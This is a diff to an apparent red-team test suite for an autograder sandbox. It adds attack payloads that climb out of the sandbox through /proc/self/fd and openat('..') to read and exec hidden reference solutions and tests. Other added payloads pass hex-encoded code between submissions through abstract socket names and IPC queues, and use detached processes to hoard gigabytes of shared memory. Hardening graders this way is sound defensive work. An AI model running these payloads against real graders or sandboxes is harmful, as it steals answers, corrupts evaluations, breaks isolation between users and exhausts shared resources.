@@ -1152,6 +1152,264 @@ print(_MARK, "reference functions found:", sorted(_REF), flush=True)
     body = "    f = _REF.get('{name}')\n    return f({args}) if callable(f) else None\n"
     return zip_members(attacked(stub, ctx, cell, _same_for_all(body))), "zip"
 
+# ------------------------------------------- the sandbox's own state (issue 26: 1, 4, 5)
+
+#: Helpers of the descriptor attacks: the worker's directory descriptors, and what to do with
+#: a reference found through them (its functions answer every call).
+DESCRIPTOR_WALK = r"""
+import os, stat
+_MARK = __MARKER__
+_REF = {}
+
+def _adv_dir_fds():
+    found = []
+    for name in os.listdir("/proc/self/fd"):
+        try:
+            if stat.S_ISDIR(os.stat("/proc/self/fd/" + name).st_mode):
+                found.append(int(name))
+        except OSError:
+            pass
+    return found
+
+def _adv_use(path, data):
+    print(_MARK, "FOUND through a descriptor", path, flush=True)
+    if path.endswith("head_and_loss.py"):
+        scope = {"__name__": "adv_ref"}
+        try:
+            exec(compile(data, path, "exec"), scope)
+            for key, value in scope.items():
+                _REF.setdefault(key, value)
+        except BaseException as exc:
+            print(_MARK, "could not run", path, type(exc).__name__)
+"""
+
+PROC_WALK = r"""
+def _adv_proc_walk(budget=60000):
+    for fd in _adv_dir_fds():
+        up = "/proc/self/fd/%d" % fd
+        for _ in range(7):
+            count = 0
+            for dirpath, dirnames, filenames in os.walk(up):
+                count += len(filenames) + len(dirnames)
+                if count > budget:
+                    break
+                dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", ".git", "__pycache__")]
+                for f in filenames:
+                    if f == "head_and_loss.py" or (f.startswith("test_q") and "hidden" in dirpath):
+                        try:
+                            _adv_use(os.path.join(dirpath, f), open(os.path.join(dirpath, f), "rb").read())
+                        except OSError:
+                            pass
+            up += "/.."
+_adv_proc_walk()
+print(_MARK, "reference functions found:", sorted(n for n in _REF if not n.startswith("_"))[:20])
+"""
+
+OPENAT_WALK = r"""
+def _adv_openat(dfd, depth, budget, where):
+    if depth > 6 or budget[0] <= 0:
+        return
+    try:
+        names = os.listdir(dfd)
+    except OSError:
+        return
+    for n in names:
+        budget[0] -= 1
+        if n in ("proc", "sys", "dev", ".git", "__pycache__"):
+            continue
+        try:
+            st = os.stat(n, dir_fd=dfd, follow_symlinks=False)
+            if stat.S_ISDIR(st.st_mode):
+                sub = os.open(n, os.O_RDONLY | os.O_DIRECTORY, dir_fd=dfd)
+                try:
+                    _adv_openat(sub, depth + 1, budget, where + "/" + n)
+                finally:
+                    os.close(sub)
+            elif n in ("head_and_loss.py", "hidden_config.json"):
+                fd = os.open(n, os.O_RDONLY, dir_fd=dfd)
+                try:
+                    _adv_use(where + "/" + n, os.read(fd, 1 << 20))
+                finally:
+                    os.close(fd)
+        except OSError:
+            pass
+
+for _fd in _adv_dir_fds():
+    _level = _fd
+    for _up in range(7):
+        try:
+            _level = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=_level)
+        except OSError:
+            break
+        _adv_openat(_level, 0, [40000], "fd%d%s" % (_fd, "/.." * (_up + 1)))
+print(_MARK, "reference functions found:", sorted(n for n in _REF if not n.startswith("_"))[:20])
+"""
+_USE_REFERENCE = "    f = _REF.get('{name}')\n    return f({args}) if callable(f) else None\n"
+
+
+def descriptor_walk(stub, ctx):
+    """Walk /proc/self/fd/N/.. from every directory descriptor the worker holds, for the references."""
+    return zip_members(attacked(stub, ctx, DESCRIPTOR_WALK + PROC_WALK, _same_for_all(_USE_REFERENCE))), "zip"
+
+
+def openat_walk(stub, ctx):
+    """Climb with openat(fd, "..") from every directory descriptor and read files by descriptor alone."""
+    return zip_members(attacked(stub, ctx, DESCRIPTOR_WALK + OPENAT_WALK, _same_for_all(_USE_REFERENCE))), "zip"
+
+
+#: Reads what an earlier submission could have left in the kernel's shared network state:
+#: TCP and UDP entries (ports, TIME_WAIT), Unix socket names. A payload found there is run;
+#: then it leaves TIME_WAIT entries and an abstract socket name (held by a background
+#: process) for the next submission.
+NETWORK_STATE = r"""
+import binascii, os, socket, threading
+_MARK = __MARKER__
+_REF = {}
+
+def _adv_receive():
+    seen = []
+    for table in ("tcp", "tcp6", "udp", "udp6", "unix"):
+        try:
+            seen += open("/proc/net/" + table).read().splitlines()[1:]
+        except OSError:
+            pass
+    payload = [line.split()[-1].split("-")[-1] for line in seen if "@lmadvpayload-" in line]
+    for chunk in payload:
+        try:
+            exec(binascii.unhexlify(chunk).decode(), _REF)
+        except BaseException:
+            pass
+    print(_MARK, "saw", len(seen), "network entries,", len(payload), "payloads", flush=True)
+
+def _adv_leave():
+    made = []
+    try:
+        server = socket.socket()
+        server.bind(("127.0.0.1", 0))
+        server.listen(8)
+        for i in range(4):
+            c = socket.create_connection(server.getsockname())
+            s, _ = server.accept()
+            s.close()
+            c.close()
+        made.append("tcp")
+    except OSError as exc:
+        print(_MARK, "tcp", type(exc).__name__, flush=True)
+    try:
+        held = socket.socket(socket.AF_UNIX)
+        held.bind(b"\0lmadvpayload-" + binascii.hexlify(b"relayed = 1"))
+        made.append("abstract")
+        if os.fork() == 0:      # keeps the name bound after this process
+            os.setsid()
+            threading.Event().wait(60)
+            os._exit(0)
+    except OSError as exc:
+        print(_MARK, "abstract", type(exc).__name__, flush=True)
+    print(_MARK, "left", made, flush=True)
+
+_adv_receive()
+_adv_leave()
+"""
+
+
+def network_state(stub, ctx):
+    """Read payloads other submissions left in /proc/net (TIME_WAIT, abstract socket names); leave one."""
+    return zip_members(attacked(stub, ctx, NETWORK_STATE, _same_for_all(_USE_REFERENCE))), "zip"
+
+
+IPC_MAILBOX = r"""
+import ctypes, os
+_MARK = __MARKER__
+_libc = ctypes.CDLL(None, use_errno=True)
+_found = {}
+for _key in (0x4C4D4144, 0x4C4D4145):
+    _id = _libc.shmget(_key, 1 << 16, 0o1000 | 0o666)
+    _found["shm %x" % _key] = _id if _id >= 0 else os.strerror(ctypes.get_errno())
+    _q = _libc.msgget(_key, 0o1000 | 0o666)
+    _found["msg %x" % _key] = _q if _q >= 0 else os.strerror(ctypes.get_errno())
+try:
+    _rt = ctypes.CDLL("librt.so.1", use_errno=True)
+    _mq = _rt.mq_open(("/" + _MARK).encode(), 0o100 | 2, 0o666, None)
+    _found["mq"] = _mq if _mq >= 0 else os.strerror(ctypes.get_errno())
+except OSError as _e:
+    _found["mq"] = str(_e)
+print(_MARK, "ipc", _found, flush=True)
+"""
+
+
+def ipc_mailbox(stub, ctx):
+    """SysV segments and queues with fixed keys and a POSIX queue: a mailbox for the next submission."""
+    return zip_members(attacked(stub, ctx, IPC_MAILBOX)), "zip"
+
+
+SYSV_HOARD = r"""
+import ctypes, os, time
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.shmat.restype = ctypes.c_void_p
+def _adv_hoard():
+    made = []
+    for i in range(3):
+        ident = _libc.shmget(0, 512 << 20, 0o1000 | 0o600)
+        if ident < 0:
+            made.append(os.strerror(ctypes.get_errno()))
+            continue
+        address = _libc.shmat(ident, None, 0)
+        if address not in (None, ctypes.c_void_p(-1).value):
+            ctypes.memset(address, 1, 512 << 20)
+            _libc.shmdt(ctypes.c_void_p(address))
+        made.append(ident)
+    print(_MARK, "segments", made, flush=True)
+if os.fork() == 0:
+    try:
+        os.setsid()
+        _adv_tag()
+        _adv_hoard()
+    finally:
+        os._exit(0)
+time.sleep(2)
+"""
+
+
+def sysv_hoard(stub, ctx):
+    """Three 512 MiB SysV segments, touched and detached by a background process."""
+    return zip_members(attacked(stub, ctx, "_MARK = __MARKER__\n" + TAG + SYSV_HOARD)), "zip"
+
+
+MEMFD_HOARD = r"""
+import os, time
+def _adv_memfd():
+    held = []
+    try:
+        fd = os.memfd_create(_MARK)
+        block = b"\1" * (1 << 20)
+        for _ in range(3 << 10):
+            os.write(fd, block)
+        held.append(fd)
+    except OSError as exc:
+        print(_MARK, "memfd", exc.strerror, flush=True)
+    for i in range(4):     # a few files in /dev/shm, each under the file-size limit
+        try:
+            with open("/dev/shm/%s-%d" % (_MARK, i), "wb") as handle:
+                handle.write(b"\1" * (8 << 20))
+        except OSError as exc:
+            print(_MARK, "shm file", exc.strerror, flush=True)
+    print(_MARK, "held", len(held), flush=True)
+    time.sleep(60)
+if os.fork() == 0:
+    try:
+        os.setsid()
+        _adv_tag()
+        _adv_memfd()
+    finally:
+        os._exit(0)
+time.sleep(2)
+"""
+
+
+def memfd_hoard(stub, ctx):
+    """3 GiB of memfd pages (counted in no process's memory) held by a detached child; /dev/shm files too."""
+    return zip_members(attacked(stub, ctx, "_MARK = __MARKER__\n" + TAG + MEMFD_HOARD)), "zip"
+
 
 ATTACKS: tuple[Attack, ...] = (
     Attack("reference_from_packages", "import the reference from installed packages or copy it from disk",
@@ -1226,6 +1484,25 @@ ATTACKS: tuple[Attack, ...] = (
     Attack("build_outputs_nearby", "take the reference from solution notebooks and zips near the grader",
            build_outputs_nearby, (r"returned None|should (return|be)|is not a tuple|got None",),
            paths=OTTER_AND_USER_PATHS),
+
+    Attack("descriptor_walk", "walk /proc/self/fd/N/.. from the worker's directory descriptors to the references",
+           descriptor_walk, (r"returned None|should (return|be)|is not a tuple|got None",),
+           paths=("grader-grade-user", "gradescope-like")),
+    Attack("openat_walk", "climb with openat(fd, '..') from the worker's descriptors and read by descriptor",
+           openat_walk, (r"returned None|should (return|be)|is not a tuple|got None",),
+           paths=("grader-grade-user", "gradescope-like")),
+    Attack("network_state", "read and leave payloads in /proc/net: TIME_WAIT entries, abstract socket names",
+           network_state, (r"returned None|should (return|be)|is not a tuple|got None",),
+           paths=("grader-grade", "grader-grade-user", "otter-run", "gradescope-like")),
+    Attack("ipc_mailbox", "SysV shared memory and queues with fixed keys, and a POSIX queue, as a mailbox",
+           ipc_mailbox, (r"returned None|should (return|be)|is not a tuple|got None",),
+           paths=("grader-grade", "grader-grade-user", "otter-run", "gradescope-like")),
+    Attack("sysv_hoard", "three 512 MiB SysV segments touched and detached by a background process",
+           sysv_hoard, (r"returned None|should (return|be)|is not a tuple|got None",),
+           paths=("grader-grade", "grader-grade-user", "otter-run", "gradescope-like")),
+    Attack("memfd_hoard", "3 GiB of memfd pages and /dev/shm files held by a detached child",
+           memfd_hoard, (r"returned None|should (return|be)|is not a tuple|got None",),
+           paths=("grader-grade", "grader-grade-user", "otter-run", "gradescope-like")),
 )
 
 BY_NAME = {a.name: a for a in ATTACKS}
